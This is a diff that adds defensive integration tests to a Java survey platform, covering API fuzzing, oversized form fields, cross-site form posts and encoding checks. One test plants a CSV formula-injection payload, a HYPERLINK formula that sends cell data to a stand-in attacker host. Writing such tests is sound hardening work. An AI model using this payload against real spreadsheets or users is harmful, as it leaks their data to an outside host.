@@ -43,6 +43,7 @@ import org.junit.jupiter.api.extension.ExtendWith;
 class PlatformIT {
 
     static final String ADMIN = System.getProperty("lwp.it.adminUser", "it-admin");
+    static final Path SURVEYS = Path.of(System.getProperty("lwp.it.surveysDir", "target/it-surveys"));
     static final String ADMIN_PASSWORD = System.getProperty("lwp.it.adminPassword");
     static final String PASSWORD = "Werfleider-Gent-2026";
 
@@ -443,5 +444,310 @@ class PlatformIT {
 
     private static URL rootOf(URL url) throws IOException {
         return new URL(url.getProtocol(), url.getHost(), url.getPort(), "/");
+    }
+
+    // ---- hardening: the API and the pages as an attacker tries them ----------------------------------
+
+    /**
+     * Reads {@code /openapi} and sends malformed input to every operation it lists (see {@link ApiFuzz}):
+     * no answer is a 5xx, every error is the API's JSON, syntax errors name line and column, a value of
+     * the wrong type names its field, and every text field of every body has a length limit.
+     */
+    @Test
+    void everyOperationAnswersMalformedInputWithAJsonErrorAndNever5xx() throws Exception {
+        WebClient client = new WebClient(base);
+        String target = createUser(client, "MENTOR");
+        HttpResponse<String> openapi = new WebClient(rootOf(base)).api("GET", "/openapi", null, null, null);
+        assertEquals(200, openapi.statusCode());
+        JsonObject document = WebClient.json(openapi).asJsonObject();
+        String none = "987654321";  // no such company, visit, action, wave or mail: a body that happens to fit changes nothing
+        Map<String, String> pathValues = Map.ofEntries(Map.entry("id", none), Map.entry("visit", none),
+                Map.entry("action", none), Map.entry("snapshot", none), Map.entry("year", "1"),
+                Map.entry("instrument", "werkgeversbevraging"), Map.entry("username", target),
+                Map.entry("section", "bedrijf"), Map.entry("token", "x"), Map.entry("code", "x"));
+        ApiFuzz fuzz = new ApiFuzz(base.toURI(), ADMIN, ADMIN_PASSWORD, document, pathValues);
+
+        fuzz.run(document);
+
+        List<String> problems = fuzz.answers().stream().map(ApiFuzz.Answer::problem).flatMap(java.util.Optional::stream)
+                .toList();
+        assertTrue(fuzz.answers().size() > 300, "the fuzz reached the operations: " + fuzz.answers().size());
+        assertTrue(fuzz.answers().stream().filter(a -> a.sent().length() > ApiFuzz.HUGE).count() > 20,
+                "text fields were found in the bodies");
+        assertEquals(List.of(), problems, problems.size() + " of " + fuzz.answers().size() + " requests");
+        assertEquals(200, client.api("GET", "/api/v1/admin/users/" + target, ADMIN, ADMIN_PASSWORD, null).statusCode());
+        assertEquals(200, client.api("GET", "/api/v1/me", target, PASSWORD, null).statusCode(),
+                "the account whose name the fuzz used is unchanged");
+    }
+
+    @Test
+    void aHundredKilobyteDisplayNameIsRefusedWithItsLimitInTheCallersLanguage() throws Exception {
+        WebClient client = new WebClient(base);
+        String username = "long-" + UUID.randomUUID().toString().substring(0, 8);
+        byte[] body = ("{\"username\":\"" + username + "\",\"displayName\":\"" + "x".repeat(100_000) + "\",\"password\":\""
+                + PASSWORD + "\",\"roles\":[\"ADVISOR\"]}").getBytes(StandardCharsets.UTF_8);
+        Map<String, String> expected = Map.of("nl", "Veld displayName: hoogstens 200 tekens.",
+                "fr", "Champ displayName\u00A0: au plus 200 caractères.", "en", "Field displayName: at most 200 characters.");
+
+        for (Map.Entry<String, String> language : expected.entrySet()) {
+            HttpResponse<String> refused = client.send("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
+                    "application/json", body, "Accept-Language", language.getKey());
+            assertEquals(400, refused.statusCode(), refused.body());
+            JsonObject error = WebClient.json(refused).asJsonObject();
+            assertEquals("bad-request", error.getString("error"));
+            assertEquals(language.getValue(), error.getString("message"));
+        }
+        assertEquals(404, client.api("GET", "/api/v1/admin/users/" + username, ADMIN, ADMIN_PASSWORD, null).statusCode(),
+                "nothing was created");
+        HttpResponse<String> nothing = client.send("PUT", "/api/v1/admin/users/" + username + "/enabled", ADMIN,
+                ADMIN_PASSWORD, "application/json", "{}".getBytes(StandardCharsets.UTF_8), "Accept-Language", "en");
+        assertEquals(400, nothing.statusCode(), "an empty change disables no one");
+        assertEquals("Field enabled is required.", WebClient.json(nothing).asJsonObject().getString("message"));
+    }
+
+    /**
+     * The pages' forms, sent back with a 100,000-character text in every text field (a field's maxlength only
+     * holds in the browser): no answer is a 5xx or the error page; what is too long is refused with a message.
+     */
+    @Test
+    void everyPageFormRefusesAHundredKilobyteTextWithoutAnErrorPage() throws Exception {
+        WebClient admin = new WebClient(base);
+        admin.signIn(ADMIN, ADMIN_PASSWORD);
+        HttpResponse<String> company = admin.api("POST", "/api/v1/companies", ADMIN, ADMIN_PASSWORD, "{\"enterpriseNumber\":\""
+                + enterpriseNumber() + "\",\"name\":\"Fuzz bv\",\"province\":\"LUIK\",\"subsectors\":[\"RUWBOUW\"]}");
+        assertEquals(201, company.statusCode(), company.body());
+        long companyId = WebClient.json(company).asJsonObject().getJsonNumber("id").longValue();
+        String huge = "x".repeat(ApiFuzz.HUGE);
+        PageFuzz signedIn = new PageFuzz(admin, huge);
+        PageFuzz publicPages = new PageFuzz(new WebClient(base), huge);
+        int textFields = 0;
+
+        for (String page : List.of("/admin/users.xhtml", "/admin/mail.xhtml", "/admin/course.xhtml", "/admin/surveys.xhtml",
+                "/companies/index.xhtml", "/companies/edit.xhtml", "/companies/company.xhtml?id=" + companyId,
+                "/fieldwork/index.xhtml", "/surveys/index.xhtml", "/surveys/data.xhtml", "/mentorcourse/index.xhtml",
+                "/analysis/index.xhtml")) {
+            textFields += signedIn.run(page);
+        }
+        for (String page : List.of("/course/verify.xhtml", "/course/register.xhtml", "/login.xhtml")) {
+            textFields += publicPages.run(page);
+        }
+
+        List<PageFuzz.Answer> answers = Stream.concat(signedIn.answers().stream(), publicPages.answers().stream()).toList();
+        List<String> problems = answers.stream().map(PageFuzz.Answer::problem).flatMap(java.util.Optional::stream).toList();
+        assertTrue(textFields > 15 && answers.size() > 15, textFields + " text fields, " + answers.size() + " forms sent");
+        assertEquals(List.of(), problems, problems.size() + " of " + answers.size() + " forms");
+        assertEquals(200, admin.get("/admin/users.xhtml").statusCode(), "the admin is still signed in");
+        HttpResponse<String> after = admin.api("GET", "/api/v1/companies/" + companyId, ADMIN, ADMIN_PASSWORD, null);
+        assertFalse(after.body().contains(huge), "nothing too long was stored");
+    }
+
+    @Test
+    void brokenJsonAndWrongTypesAreNamedInTheAnswer() throws Exception {
+        WebClient client = new WebClient(base);
+        HttpResponse<String> broken = client.send("POST", "/api/v1/fieldwork", ADMIN, ADMIN_PASSWORD, "application/json",
+                "{\"name\":".getBytes(StandardCharsets.UTF_8), "Accept-Language", "en");
+        HttpResponse<String> date = client.send("POST", "/api/v1/fieldwork", ADMIN, ADMIN_PASSWORD, "application/json",
+                "{\"name\":\"Golf\",\"invitationDate\":\"4 december\"}".getBytes(StandardCharsets.UTF_8),
+                "Accept-Language", "en");
+        HttpResponse<String> array = client.send("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD, "application/json",
+                "[1,2]".getBytes(StandardCharsets.UTF_8), "Accept-Language", "fr");
+
+        assertEquals(400, broken.statusCode(), broken.body());
+        assertTrue(WebClient.json(broken).asJsonObject().getString("message")
+                .matches("The body is not valid JSON at line 1, column \\d+\\."), broken.body());
+        assertEquals(400, date.statusCode(), date.body());
+        assertEquals("Field invitationDate: expected a date YYYY-MM-DD (such as 2026-12-04).",
+                WebClient.json(date).asJsonObject().getString("message"));
+        assertEquals(400, array.statusCode(), array.body());
+        assertEquals("Le corps de la demande\u00A0: un objet JSON est attendu.",
+                WebClient.json(array).asJsonObject().getString("message"));
+    }
+
+    @Test
+    void optionsAnswersWithTheAllowedMethods() throws Exception {
+        HttpResponse<String> options = new WebClient(base).send("OPTIONS", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
+                null, null);
+
+        assertTrue(options.statusCode() == 200 || options.statusCode() == 204, options.statusCode() + " " + options.body());
+        Set<String> allowed = Set.of(options.headers().firstValue("Allow").orElse("").replace(" ", "").split(","));
+        assertTrue(allowed.containsAll(Set.of("GET", "POST")), "Allow: " + allowed);
+    }
+
+    /** Every date and timestamp the API takes or returns is described as the string it is, never as an object. */
+    @Test
+    void openApiDescribesDatesAndTimestampsAsStrings() throws Exception {
+        HttpResponse<String> openapi = new WebClient(rootOf(base)).api("GET", "/openapi", null, null, null);
+        JsonObject schemas = WebClient.json(openapi).asJsonObject().getJsonObject("components").getJsonObject("schemas");
+        Set<Class<?>> temporal = Set.of(java.time.LocalDate.class, java.time.Instant.class,
+                java.time.LocalDateTime.class, java.time.OffsetDateTime.class);
+        List<String> checked = new java.util.ArrayList<>();
+        List<String> wrong = new java.util.ArrayList<>();
+        for (Class<?> type : ApiOperations.classesIn(Path.of("target/classes"))) {
+            JsonObject schema = schemas.getJsonObject(type.getSimpleName());
+            if (schema == null || schema.getJsonObject("properties") == null) {
+                continue;
+            }
+            for (java.lang.reflect.Field field : type.getDeclaredFields()) {
+                JsonObject property = schema.getJsonObject("properties").getJsonObject(field.getName());
+                if (property == null || !temporal.contains(field.getType())) {
+                    continue;
+                }
+                String format = field.getType() == java.time.LocalDate.class ? "date" : "date-time";
+                checked.add(type.getSimpleName() + "." + field.getName());
+                if (!"string".equals(property.getString("type", "")) || !format.equals(property.getString("format", ""))) {
+                    wrong.add(type.getSimpleName() + "." + field.getName() + " is " + property);
+                }
+            }
+        }
+        assertTrue(checked.containsAll(List.of("NewWave.invitationDate", "WaveView.closingDate", "VisitSummary.date",
+                "OutboxSummary.createdAt", "UserView.createdAt")), "the known dates were found: " + checked);
+        assertEquals(List.of(), wrong);
+    }
+
+    @Test
+    void aPageFormSentFromAnotherSiteIsRefusedAndTheSameFormFromTheApplicationWorks() throws Exception {
+        WebClient admin = new WebClient(base);
+        admin.signIn(ADMIN, ADMIN_PASSWORD);
+        String refusedName = "origin-" + UUID.randomUUID().toString().substring(0, 8);
+        String acceptedName = "origin-" + UUID.randomUUID().toString().substring(0, 8);
+        String origin = base.getProtocol() + "://" + base.getHost() + ":" + base.getPort();
+
+        String viewState = WebClient.viewState(admin.get("/admin/users.xhtml").body());
+        HttpResponse<String> foreign = admin.post("/admin/users.xhtml", "createForm",
+                Map.of("username", refusedName, "password", PASSWORD, "roles", "ADVISOR"), "create", viewState,
+                "Origin", "https://evil.example");
+        HttpResponse<String> foreignReferer = admin.post("/admin/users.xhtml", "createForm",
+                Map.of("username", refusedName, "password", PASSWORD, "roles", "ADVISOR"), "create", viewState,
+                "Referer", "https://evil.example/page.html");
+        HttpResponse<String> own = admin.post("/admin/users.xhtml", "createForm",
+                Map.of("username", acceptedName, "password", PASSWORD, "roles", "ADVISOR"), "create", viewState,
+                "Origin", origin);
+
+        for (HttpResponse<String> refused : List.of(foreign, foreignReferer)) {
+            assertEquals(403, refused.statusCode(), refused.body());
+            assertTrue(refused.body().contains("Geweigerd: verstuurd vanaf een andere site"), refused.body());
+        }
+        assertEquals(404, admin.api("GET", "/api/v1/admin/users/" + refusedName, ADMIN, ADMIN_PASSWORD, null).statusCode(),
+                "nothing was created from the other site");
+        assertEquals(200, own.statusCode(), own.body());
+        assertEquals(200, admin.api("GET", "/api/v1/admin/users/" + acceptedName, ADMIN, ADMIN_PASSWORD, null).statusCode(),
+                "the application's own page still creates the account");
+    }
+
+    @Test
+    void importsRefuseALatin1FileWithTheLineOfItsFirstByteThatIsNotUtf8() throws Exception {
+        WebClient client = new WebClient(base);
+        String instrument = writeInstrument();
+        try {
+            String today = java.time.LocalDate.now().toString();
+            HttpResponse<String> wave = client.api("POST", "/api/v1/fieldwork", ADMIN, ADMIN_PASSWORD, "{\"name\":\"Latin-1\","
+                    + "\"instrumentId\":\"" + instrument + "\",\"invitationDate\":\"" + today + "\",\"reminderLastDate\":\"" + today
+                    + "\",\"closingDate\":\"" + today + "\"}");
+            assertEquals(201, wave.statusCode(), wave.body());
+            long waveId = WebClient.json(wave).asJsonObject().getJsonNumber("id").longValue();
+            String good = enterpriseNumber();
+            String name = "Bouw " + UUID.randomUUID().toString().substring(0, 8);
+
+            HttpResponse<String> companies = latin1(client, "/api/v1/companies/import",
+                    "enterprise_number,name,province,city\n" + good + "," + name + ",LUIK,Gent\n" + enterpriseNumber()
+                            + ",Caf\u00E9 R\u00E9n\u00E9,LUIK,Li\u00E8ge\n");
+            HttpResponse<String> invitees = latin1(client, "/api/v1/fieldwork/" + waveId + "/invitees",
+                    "company,contact,email,language\nBouw,An,an@bouw.be,nl\nCaf\u00E9,Ren\u00E9,rene@cafe.be,fr\n");
+            HttpResponse<String> responses = latin1(client, "/api/v1/surveys/" + instrument + "/import",
+                    "version,Q1_KEUZE,Q2_TEKST\n1,JA,goed\n1,JA,Caf\u00E9\n");
+
+            assertEquals(422, companies.statusCode(), companies.body());
+            JsonObject companyProblem = WebClient.json(companies).asJsonObject().getJsonArray("problems").getJsonObject(0);
+            assertEquals(3, companyProblem.getInt("line"), companies.body());
+            assertTrue(companyProblem.getString("message").startsWith("The file is not UTF-8 text: line 3"), companies.body());
+            assertEquals(0, WebClient.json(client.api("GET", "/api/v1/companies?search=" + name.replace(" ", "%20"), ADMIN,
+                    ADMIN_PASSWORD, null)).asJsonObject().getInt("total"), "not even the good line is stored");
+            assertEquals(422, invitees.statusCode(), invitees.body());
+            assertEquals(3, WebClient.json(invitees).asJsonObject().getJsonArray("problems").getJsonObject(0).getInt("line"));
+            assertEquals(0, WebClient.json(client.api("GET", "/api/v1/fieldwork/" + waveId, ADMIN, ADMIN_PASSWORD, null))
+                    .asJsonObject().getJsonObject("counts").getInt("invitees"), "no invitee was added");
+            assertEquals(422, responses.statusCode(), responses.body());
+            JsonObject responseError = WebClient.json(responses).asJsonObject().getJsonArray("errors").getJsonObject(0);
+            assertEquals(3, responseError.getInt("line"), responses.body());
+            assertTrue(responseError.getString("message").contains("not UTF-8"), responses.body());
+        } finally {
+            removeInstrument(instrument);
+        }
+    }
+
+    @Test
+    void exportsNeutraliseARespondentsFormulaUnlessRawIsAsked() throws Exception {
+        WebClient client = new WebClient(base);
+        String instrument = writeInstrument();
+        try {
+            String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")";
+            String csv = "version,Q1_KEUZE,Q2_TEKST\n1,JA,\"" + formula.replace("\"", "\"\"") + "\"\n";
+            HttpResponse<String> imported = client.csv("/api/v1/surveys/" + instrument + "/import", ADMIN, ADMIN_PASSWORD, csv);
+            assertEquals(200, imported.statusCode(), imported.body());
+
+            String codes = client.download("/api/v1/surveys/" + instrument + "/export", ADMIN, ADMIN_PASSWORD).body();
+            String labels = client.download("/api/v1/surveys/" + instrument + "/export?values=labels", ADMIN, ADMIN_PASSWORD)
+                    .body();
+            String raw = client.download("/api/v1/surveys/" + instrument + "/export?raw=true", ADMIN, ADMIN_PASSWORD).body();
+
+            String quoted = "\"" + formula.replace("\"", "\"\"") + "\"";
+            assertTrue(codes.contains("\"'" + formula.replace("\"", "\"\"") + "\""), "the API's default export: " + codes);
+            assertFalse(codes.contains("," + quoted), codes);
+            assertTrue(labels.contains("\"'" + formula.replace("\"", "\"\"") + "\""), labels);
+            assertTrue(raw.contains("," + quoted), "raw=true writes what was typed: " + raw);
+
+            HttpResponse<String> again = client.csv("/api/v1/surveys/" + instrument + "/import", ADMIN, ADMIN_PASSWORD, codes);
+            assertEquals(200, again.statusCode(), again.body());
+            String afterRoundTrip = client.download("/api/v1/surveys/" + instrument + "/export?raw=true", ADMIN, ADMIN_PASSWORD)
+                    .body();
+            assertEquals(2, afterRoundTrip.split(java.util.regex.Pattern.quote(quoted), -1).length - 1,
+                    "the re-imported export holds the text as typed, without the apostrophe: " + afterRoundTrip);
+        } finally {
+            removeInstrument(instrument);
+        }
+    }
+
+    /** A valid Belgian enterprise number no test has used: ten digits starting with 1, the last two 97 minus the first eight modulo 97. */
+    static String enterpriseNumber() {
+        long first = 10_000_000L + java.util.concurrent.ThreadLocalRandom.current().nextLong(9_999_999L);
+        return String.format("%08d%02d", first, 97 - first % 97);
+    }
+
+    private static HttpResponse<String> latin1(WebClient client, String path, String csv) throws Exception {
+        return client.send("POST", path, ADMIN, ADMIN_PASSWORD, "text/csv",
+                csv.getBytes(StandardCharsets.ISO_8859_1), "Accept", "application/json", "Accept-Language", "en");
+    }
+
+    /** Writes a small instrument with a choice and a text question into the IT's surveys folder and reads it. */
+    private String writeInstrument() throws Exception {
+        String id = "it_h" + UUID.randomUUID().toString().substring(0, 8).replace('-', '_');
+        Files.writeString(SURVEYS.resolve(id + ".yaml"), """
+                id: %s
+                version: 1
+                languages: [nl, fr]
+                title: {nl: "Hardening", fr: "Hardening"}
+                sections:
+                  - id: een
+                    title: {nl: "Een", fr: "Un"}
+                    questions:
+                      - code: Q1_KEUZE
+                        type: single
+                        required: true
+                        label: {nl: "Keuze", fr: "Choix"}
+                        options:
+                          - {code: JA, nl: "Ja", fr: "Oui"}
+                          - {code: NEE, nl: "Nee", fr: "Non"}
+                      - code: Q2_TEKST
+                        type: text
+                        label: {nl: "Opmerking", fr: "Remarque"}
+                """.formatted(id), StandardCharsets.UTF_8);
+        HttpResponse<String> reloaded = new WebClient(base).api("POST", "/api/v1/surveys/reload", ADMIN, ADMIN_PASSWORD, "{}");
+        assertEquals(200, reloaded.statusCode(), reloaded.body());
+        return id;
+    }
+
+    private void removeInstrument(String id) throws Exception {
+        Files.deleteIfExists(SURVEYS.resolve(id + ".yaml"));
+        new WebClient(base).api("POST", "/api/v1/surveys/reload", ADMIN, ADMIN_PASSWORD, "{}");
     }
 }
